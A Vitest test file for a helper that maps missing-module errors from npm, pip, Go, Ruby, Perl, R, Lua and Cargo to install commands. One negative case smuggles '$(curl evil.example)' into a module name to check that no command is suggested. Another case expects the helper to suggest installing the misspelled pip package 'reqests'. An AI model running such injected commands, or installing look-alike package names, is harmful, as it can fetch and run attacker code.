import { expect, it } from 'vitest';
import { missingModule } from './missing-module.js';

it.each([
  ["Error: Cannot find module '@acme/tax/lib/rates'", 'npm install @acme/tax'],
  ["Module not found: Error: Can't resolve 'left-pad' in '/app'", 'npm install left-pad'],
  ["ModuleNotFoundError: No module named 'reqests'", 'python -m pip install reqests'],
  ["ModuleNotFoundError: No module named 'yaml.loader'", 'python -m pip install PyYAML'],
  [
    'main.go:3:8: no required module provides package github.com/acme/tax; to add it:',
    'go get github.com/acme/tax',
  ],
  ['cannot load such file -- rack/test (LoadError)', 'bundle add rack'],
  ["Can't locate Acme/Tax.pm in @INC (you may need to install the Acme::Tax module)", 'cpanm Acme::Tax'],
  [
    'Error in library(dplyr) : there is no package called ‘dplyr’',
    'Rscript -e \'install.packages("dplyr")\'',
  ],
  ["lua: main.lua:1: module 'lpeg' not found:", 'luarocks install lpeg'],
  ['error[E0432]: unresolved import `serde`', 'cargo add serde'],
])('knows what installs the module of %j', (line, command) => {
  expect(missingModule(line)?.command).toBe(command);
});

it.each([
  "Error: Cannot find module './rates'",
  "Error: Cannot find module '$(curl evil.example)'",
  'cannot load such file -- /app/rates',
])('offers no command for %j', (line) => {
  expect(missingModule(line)).toBeDefined();
  expect(missingModule(line)?.command).toBeUndefined();
});

it('says nothing of other errors', () => {
  expect(missingModule('TypeError: x is not a function')).toBeUndefined();
});
